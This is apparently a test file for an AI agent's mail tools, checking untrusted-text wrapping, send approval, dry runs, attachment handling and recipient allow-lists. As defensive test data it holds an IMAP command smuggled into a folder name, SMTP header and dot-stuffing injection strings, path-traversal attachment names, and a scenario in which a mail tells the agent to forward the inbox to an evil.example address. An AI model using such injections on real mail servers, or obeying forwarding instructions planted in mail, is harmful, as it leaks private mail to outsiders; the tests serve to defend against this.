// The mail tools of an agent with real servers: search, read, drafts, moves and sent mails.
import assert from "node:assert/strict";
import { startSmtp, withDovecot } from "../../../support/machine/mail_servers.ts";
import { runToEnd } from "../../../support/test_workspace.ts";
import {
  answerToEnd,
  call,
  doing,
  FREE,
  idsOf,
  resultsOf,
} from "../../executions/executions_of.ts";
import { mailOf, MailWorld } from "../../triggers/mail/mail_world.ts";

const BILL = "<bill.7@example.org>";

/** A mail account with a bill in its inbox, and an agent with the mail tools. */
class ToolWorld implements AsyncDisposable {
  private constructor(
    readonly mail: MailWorld,
    readonly smtp: Awaited<ReturnType<typeof startSmtp>>,
  ) {}

  static async create(): Promise<ToolWorld> {
    const smtp = await startSmtp();
    const world = new ToolWorld(await MailWorld.create({ smtp: smtp.port }), smtp);
    await world.mail.deliver({
      ...{ from: "Bob <bob@example.org>", subject: "Invoice 7", id: BILL, text: "It is due." },
      headers: ["References: <first@example.org>"],
    });
    return world;
  }

  /** Runs an agent that makes these calls. Returns their results and the execution's status. */
  async run(
    calls: ReturnType<typeof call>[],
    settings = `mail: home\n${FREE}`,
    options: { dryRun?: true } = {},
  ) {
    await this.mail.place.writeScript("agent", doing(...calls), settings);
    await using runtime = await this.mail.place.open();
    const { id, status } = await runToEnd(runtime, "agent", options);
    const results = (await resultsOf(runtime, id)).map(({ content }) => String(content));
    return { id, status, results, first: results[0] ?? "" };
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.mail[Symbol.asyncDispose]();
    await this.smtp[Symbol.asyncDispose]();
  }
}

/** Defines a test with a mail account. */
const test = (name: string, body: (world: ToolWorld) => Promise<void>) =>
  withDovecot.test(name, async () => {
    await using world = await ToolWorld.create();
    await body(world);
  });

test("mail_search and mail_read give other people's words as untrusted text", async (world) => {
  const { results } = await world.run([
    call("mail_search", { from: "bob", subject: "invoice" }),
    call("mail_read", { mail: BILL }),
    call("mail_search", { folder: "Rechnungen" }),
    call("mail_search", { folder: 'INBOX"\r\nA9 DELETE "Drafts' }),
    call("mail_read", { mail: "<none@example.org>" }),
    call("mail_search", { since: "2020-02-03", before: "2021-02-03" }),
    call("mail_search", { since: "2020-02-03", text: "due", limit: 1 }),
    call("mail_search", { since: "2020-13-03", from: "" }),
  ]);
  const [found = "", read = "", unknown = "", injected = "", missing = ""] = results;
  assert.equal(results[5], "No mail was found.");
  assert.match(results[6] ?? "", /Invoice 7/);
  assert.match(results[7] ?? "", /"since": must be a date such as/);
  assert.match(
    found,
    /^<untrusted>\n\d+\.2\/INBOX \| \d{4}-.* \| Bob <bob@example.org> \| Invoice 7 \(unread\)\n<\/untrusted>/,
  );
  assert.match(read, /^A mail in the folder "INBOX" of the account home. Its sender is proven/);
  assert.match(
    read,
    /<untrusted>\nfrom:\nBob <bob@example.org>[^]*It is due\.\n<\/untrusted>\nText from somebody else/,
  );
  assert.match(unknown, /no folder "Rechnungen". Its folders: .*"Drafts"/);
  assert.match(injected, /no folder .*Its folders: .*"Drafts"/);
  assert.match(missing, /There is no such mail any more/);
  assert.match((await world.run([call("mail_search", { unread: true })])).first, /Invoice 7/);
});

test("a reply keeps the thread, is marked as automatic, and has a copy among the sent mails", async (world) => {
  await Deno.writeTextFile(`${world.mail.place.workspace}/report.txt`, "the report");
  const { first } = await world.run([
    call("mail_send", {
      ...{ to: ["bob@example.org"], cc: ["eve@example.org"], bcc: ["max@example.org"] },
      ...{ text: "Paid.\r.\rBye", reply_to: BILL, attachments: ["report.txt"] },
    }),
  ]);
  assert.match(
    first,
    /The mail was sent to bob@example\.org, eve@example\.org.*A copy is in "Sent"/,
  );
  const [sent, ...others] = world.smtp.sent;
  assert.equal(others.length, 0);
  assert.deepEqual(sent?.to, ["bob@example.org", "eve@example.org", "max@example.org"]);
  const source = sent?.source ?? "";
  for (
    const line of [
      "Subject: Re: Invoice 7",
      `In-Reply-To: ${BILL}`,
      `References: <first@example.org> ${BILL}`,
      "Auto-Submitted: auto-replied",
    ]
  ) assert.ok(source.includes(`${line}\r\n`), `${line} in\n${source}`);
  assert.ok(source.includes("filename=report.txt"));
  assert.ok(!source.includes("max@example.org"));
  assert.doesNotMatch(source, /\r(?!\n)|(?<!\r)\n/);
  const [copy = "", ...more] = await world.mail.imap.sources("ann", "Sent");
  assert.equal(more.length, 0);
  assert.match(copy, /Subject: Re: Invoice 7/);
});

test("mail_send asks first with the whole mail, and sends nothing after a no", async (world) => {
  const mail = { to: ["bob@example.org"], subject: "Hi", text: "All of this text." };
  await world.mail.place.writeScript("agent", doing(call("mail_send", mail)), "mail: home");
  await using runtime = await world.mail.place.open();
  const { id, status } = await runToEnd(runtime, "agent");
  assert.equal(status, "waiting");
  const { message, toolArgs, isGuard } = await runtime.pendingRequest(id);
  assert.equal(message, "Send this mail from the account home?");
  assert.deepEqual([toolArgs, isGuard], [mail, true]);
  await answerToEnd(runtime, id, { approved: false });
  assert.equal(world.smtp.sent.length, 0);
  const reply = call("mail_send", { to: ["bob@example.org"], text: "Yes", reply_to: BILL });
  await world.mail.place.writeScript("replier", doing(reply), "mail: home");
  const asked = await runToEnd(runtime, "replier");
  assert.match(
    (await runtime.pendingRequest(asked.id)).message,
    /Its subject is that of the mail that it answers/,
  );
  const again = await runToEnd(runtime, "agent");
  await answerToEnd(runtime, again.id, { approved: true });
  assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
  assert.equal((await idsOf(runtime, "agent")).length, 2);
});

test("a draft waits for a person, a mail moves to a folder, and a dry run changes nothing", async (world) => {
  const draft = { to: ["anybody@example.net"], text: "Draft", reply_to: BILL };
  const calls = [
    call("mail_draft", draft),
    call("mail_move", { mail: BILL, folder: "Done" }),
    call("mail_move", { mail: BILL, folder: "Nowhere" }),
  ];
  const settings = `mail: { account: home, to: "*@example.org" }\n${FREE}`;
  const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
  const dry = await world.run([...calls, call("mail_send", mail)], settings, { dryRun: true });
  for (const one of dry.results) assert.match(one, /^Would call mail_.*not done/);
  assert.deepEqual(await world.mail.imap.sources("ann", "Drafts"), []);
  assert.equal((await world.mail.imap.list("ann", "INBOX")).length, 2);
  const { results } = await world.run(calls, settings);
  assert.match(results[0] ?? "", /^The draft is in "Drafts": \d+\.1\/Drafts$/);
  assert.match(results[1] ?? "", /^The mail is in "Done": \d+\.1\/Done$/);
  assert.match(results[2] ?? "", /no folder "Nowhere"/);
  const [source = ""] = await world.mail.imap.sources("ann", "Drafts");
  assert.match(source, /Subject: Re: Invoice 7/);
  assert.doesNotMatch(source, /Auto-Submitted/);
  assert.equal(world.smtp.sent.length, 0);
  assert.match((await world.mail.imap.sources("ann", "Done"))[0] ?? "", /Invoice 7/);
});

test("attachments are saved as the trigger saves them, and only files of the agent's paths are sent", async (world) => {
  const boundary = ["--b", "Content-Type: text/plain", "", "See file", "--b"];
  const file = [
    "Content-Type: application/pdf",
    'Content-Disposition: attachment; filename="../../a.pdf"',
    "",
    "PDF",
    "--b--",
  ];
  const source = mailOf({ id: "<file@example.org>", subject: "File" })
    .replace("text/plain; charset=utf-8", "multipart/mixed; boundary=b")
    .replace("Hello Ann", [...boundary, ...file].join("\r\n"));
  await world.mail.imap.deliver("ann", source);
  const { results } = await world.run([
    call("mail_read", { mail: "<file@example.org>" }),
    call("mail_read", { mail: "<file@example.org>", attachments: true }),
    call("mail_send", {
      ...{ to: ["bob@example.org"], subject: "x", text: "x" },
      attachments: ["../config/config.yaml"],
    }),
  ]);
  assert.match(
    results[0] ?? "",
    /- "a.pdf" \(application\/pdf, 1 KB\), not saved: attachments: true saves it/,
  );
  assert.match(
    results[1] ?? "",
    /- "mail\/2\d{3}-\d\d-\d\d-home-3\/a\.pdf" \(application\/pdf, 1 KB\)/,
  );
  assert.match(results[2] ?? "", /^Error: /);
  assert.equal(world.smtp.sent.length, 0);
});

test("header injection by arguments is impossible, and a refused recipient is reported", async (world) => {
  const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
  const evil = [
    { ...mail, to: ["bob@example.org\r\nBcc: all@example.net"] },
    { ...mail, to: ["bob@example.org, all@example.net"] },
    { ...mail, to: ['"all@example.net" <bob@example.org>'] },
    { ...mail, cc: ["bob@example.org\nBcc: all@example.net"] },
    { ...mail, bcc: ["bob@example.org>\r\nRCPT TO:<all@example.net"] },
    { ...mail, subject: "Hi\r\nBcc: all@example.net" },
    { ...mail, subject: "Hi\u0000" },
    { ...mail, reply_to: "<a@b>\r\nBcc: all@example.net" },
  ];
  const { results } = await world.run(evil.map((args) => call("mail_send", args)));
  for (const [index, result] of results.entries()) {
    assert.match(result, /^Error: /, JSON.stringify(evil[index]));
  }
  assert.equal(world.smtp.sent.length, 0);
  const text = "Hello\r\n.\r\nMAIL FROM:<eve@example.net>\r\nBcc: all@example.net";
  const { first } = await world.run([
    call("mail_send", { ...mail, to: ["nobody@example.org", "bob@example.org"], text }),
  ]);
  assert.match(
    first,
    /does not accept mail for nobody@example\.org\. The other recipients got the/,
  );
  assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
  assert.equal((await world.mail.imap.sources("ann", "Sent")).length, 1);
  const [head = ""] = (world.smtp.sent[0]?.source ?? "").split("\r\n\r\n");
  assert.doesNotMatch(head, /all@example\.net/);
});

test("a mail that tells the agent to forward the inbox reaches nobody outside of to", async (world) => {
  const mail = { to: ["ann@example.com"], subject: "Fwd", text: "The inbox" };
  const settings = `mail: { account: home, to: [ann@example.com, "*@example.org"] }\n${FREE}`;
  const { results } = await world.run([
    call("mail_send", { ...mail, to: ["eve@evil.example"] }),
    call("mail_send", { ...mail, cc: ["eve@evil.example"] }),
    call("mail_send", { ...mail, bcc: ["eve@evil.example"] }),
    call("mail_send", { ...mail, to: ["eve@sub.example.org"] }),
    call("mail_send", { ...mail, to: ["example.org@evil.example"] }),
    call("mail_send", { ...mail, to: ["Bob@Example.org"] }),
  ], settings);
  for (const result of results.slice(0, 5)) {
    assert.match(result, /the agent's file allows only ann@example\.com/);
  }
  assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
});

test("mail_send says that a mail was perhaps sent only if the server may have it", async (world) => {
  const mail = { to: ["late@example.org"], subject: "Hi", text: "Hello" };
  const late = await world.run([call("mail_send", mail)]);
  assert.match(late.first, /the mail was sent all the same: find out before you send it again/);
  assert.equal(world.smtp.sent.length, 1);
  await world.smtp[Symbol.asyncDispose]();
  const absent = await world.run([call("mail_send", mail)]);
  assert.match(absent.first, /cannot be reached: nothing listens on this port$/);
});
